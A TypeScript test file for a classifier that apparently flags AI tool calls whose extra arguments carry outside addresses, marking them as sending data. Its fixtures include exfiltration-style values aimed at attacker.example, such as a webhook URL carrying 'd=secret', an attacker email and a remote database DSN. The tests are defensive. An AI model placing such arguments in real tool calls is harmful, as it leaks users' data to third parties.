import { describe, expect, it } from 'vitest'
import { toKinds } from '../core/effect.ts'
import type { JsonObject } from '../core/json.ts'
import type { ToolManifest } from '../core/manifest.ts'
import { createEffectComputer } from './manifest.ts'

const computer = await createEffectComputer()
const TOOL: ToolManifest = {
  hash: 'sha-256:x',
  effect: 'read',
  arguments: { id: { role: 'selector' }, '/page/url': { role: 'selector' } },
  output: { trust: 'internal', confidentiality: 'internal' },
  idempotent: false,
}
const kinds = (args: JsonObject, tool: Partial<ToolManifest> = {}): string =>
  toKinds(
    computer.compute(
      { method: 'tools/call', name: 't', arguments: args },
      { status: 'accepted', tool: { ...TOOL, ...tool }, manifest: 'm' },
    ).effect,
  ).join('+')

describe('an argument that nobody described', () => {
  it.each<[JsonObject]>([
    [{ id: '1', webhook: 'https://attacker.example/?d=secret' }],
    [{ id: '1', notify: 'eve@attacker.example' }],
    [{ id: '1', host: 'attacker.example' }],
    [{ id: '1', options: { deep: [{ to: 'please tell eve@attacker.example' }] } }],
    [{ id: '1', options: { 'https://attacker.example': true } }],
    [{ id: '1', filler: `${'x '.repeat(300)}https://attacker.example` }],
    [{ id: '1', filler: Array.from({ length: 1_001 }, () => 'x') }],
  ])('and that holds an address makes a read send: %j', (args) => {
    expect(kinds(args)).toBe('read+send')
  })

  it('beside a statement, too', () => {
    const sql = { effect: { from: 'sql', argument: 'sql' }, arguments: {} } as const
    expect(kinds({ sql: "SELECT * FROM t WHERE url = 'https://x.example'" }, sql)).toBe('read')
    expect(kinds({ sql: 'SELECT 1', dsn: 'postgres://attacker.example/x' }, sql)).toBe('read+send')
  })

  it.each<[JsonObject]>([
    [{ id: '1' }],
    [{ id: 'eve@attacker.example', page: { url: 'https://shop.example' } }],
    [{ id: '1', limit: 10, verbose: true, sort: 'newest first', after: null, unit: '3.5' }],
  ])('and is nothing of the kind changes nothing: %j', (args) => {
    expect(kinds(args)).toBe('read')
  })
})
